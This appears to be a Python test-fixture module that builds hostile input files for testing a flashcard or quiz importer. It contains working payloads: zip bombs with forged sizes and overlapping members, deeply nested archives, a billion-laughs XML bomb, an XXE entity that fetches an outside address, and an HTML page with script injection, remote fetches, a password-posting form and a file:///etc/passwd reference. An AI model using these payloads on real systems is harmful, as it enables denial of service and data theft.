"""Files that nobody should have to open: archives that grow without end, texts that are none, pages that reach out."""

import struct
import zipfile
import zlib
from collections.abc import Iterable, Mapping
from io import BytesIO
from random import Random

ARTICLE = b"example.org\nRates Rise\nThe bank raised its rates.\n- Who did it?\n- The bank did it.\n"
"""A text that is imported, to lie beside what is not."""

ARCHIVE_NAMES = ("a.zip", "a.apkg", "a.colpkg", "a.cards", "a.xlsx", "a.ods")
ANY_NAMES = (*ARCHIVE_NAMES, "a.db", "a.txt", "a.md", "a.json", "a.csv", "a.tsv", "a.html", "a.quizapp.json", "a")

MEMBERS = {
    "a.zip": "article.txt",
    "a.apkg": "collection.anki2",
    "a.colpkg": "collection.anki21",
    "a.cards": "cards.xml",
    "a.xlsx": "xl/worksheets/sheet1.xml",
    "a.ods": "content.xml",
}
"""The member that the reader of each kind of archive needs first."""


def packed(members: Mapping[str, bytes] | Iterable[tuple[str, bytes]]) -> bytes:
    """Return an archive; a name may come twice."""
    file = BytesIO()
    pairs = members.items() if isinstance(members, Mapping) else members
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in pairs:
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return file.getvalue()


def bomb(name: str, *, size: int = 600_000_000, told: int | None = None) -> bytes:
    """Return an archive below a megabyte whose member `name` unpacks to `size` zeros, and says it has `told`."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(1_000_000)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    data = first + again * (size // len(block) - 1) + compressor.flush()
    checksum = 0
    for _ in range(size // len(block)):
        checksum = zlib.crc32(block, checksum)
    return _archive([(name, data, size if told is None else told, checksum)])


def overlapping(name: str, count: int = 20_000) -> bytes:
    """Return an archive whose many members all lie in the same bytes."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = compressor.compress(bytes(10_000_000)) + compressor.flush()
    return _archive(
        [(name if number == 0 else f"{number}-{name}", data, 10_000_000, 0) for number in range(count)], same=True
    )


def nested(depth: int, name: str = "article.txt") -> bytes:
    """Return an archive in an archive, and so on, `depth` deep, with an article in the last."""
    data, inner = ARTICLE, name
    for _ in range(depth):
        data, inner = packed({inner: data}), "inner.zip"
    return data


def laughing(root: str = "lolz") -> bytes:
    """Return XML that would grow to a billion words."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY l0 "lol">{entities}]><{root}>&l9;</{root}>'.encode()


def reaching(root: str, address: str) -> bytes:
    """Return XML that asks for another file."""
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY x SYSTEM "{address}">]><{root}>&x;</{root}>'.encode()


def page(address: str) -> str:
    """Return a page with questions that also does all that a page could do to somebody who opens it."""
    return f"""<!DOCTYPE html><html><head><title>Harbour</title>
<meta http-equiv="refresh" content="0;url={address}/refresh">
<link rel="stylesheet" href="{address}/style.css"><base href="{address}/">
<script src="{address}/script.js"></script><script>document.write("STOLEN SCRIPT")</script>
<style>body {{ position: fixed; inset: 0; z-index: 9999; background: url({address}/background.png) }}</style>
</head><body onload="fetch('{address}/onload')">
<iframe src="{address}/frame.html"></iframe><object data="{address}/object.swf"></object><embed src="{address}/embed">
<form action="{address}/form" method="post"><input name="password" value="HIDDEN FIELD"><button>Send</button></form>
<img src="file:///etc/passwd"><img src="{address}/image.png" srcset="{address}/large.png 2x" onerror="steal()">
<video src="{address}/film.mp4" poster="{address}/poster.png" autoplay></video>
<a href="javascript:steal()">a link</a>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999">cover</div>
<h1>Harbour</h1>
<h2>When did the harbour open?</h2><p>It opened in May. <b onclick="steal()">Ships</b> came at once.</p>
<h2>Who paid for the harbour?</h2><p>The city paid for it. <script>alert(1)</script>The state lent the money.</p>
<h2>What is traded in the harbour?</h2><p>Grain and steel are traded. <img src="{address}/steel.png">Coal is not.</p>
</body></html>
"""


def flipped(data: bytes, random: Random, count: int) -> bytes:
    """Return `data` with some bits turned over."""
    changed = bytearray(data)
    for _ in range(count if changed else 0):
        changed[random.randrange(len(changed))] ^= 1 << random.randrange(8)
    return bytes(changed)


def _archive(members: list[tuple[str, bytes, int, int]], *, same: bool = False) -> bytes:
    """Return an archive of members that are packed already: name, data, size and checksum as they are told."""
    body, directory = bytearray(), bytearray()
    for index, (name, data, size, checksum) in enumerate(members):
        sizes = struct.pack("<LLL", checksum, len(data), size)
        offset = 0 if same else len(body)
        if not same or index == 0:
            body += struct.pack("<4s5H", b"PK\x03\x04", 20, 0, 8, 0, 0) + sizes
            body += struct.pack("<2H", len(name), 0) + name.encode() + data
        directory += struct.pack("<4s6H", b"PK\x01\x02", 20, 20, 0, 8, 0, 0) + sizes
        directory += struct.pack("<5H2L", len(name), 0, 0, 0, 0, 0, offset) + name.encode()
    count = len(members)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(body), 0)
    return bytes(body + directory + end)
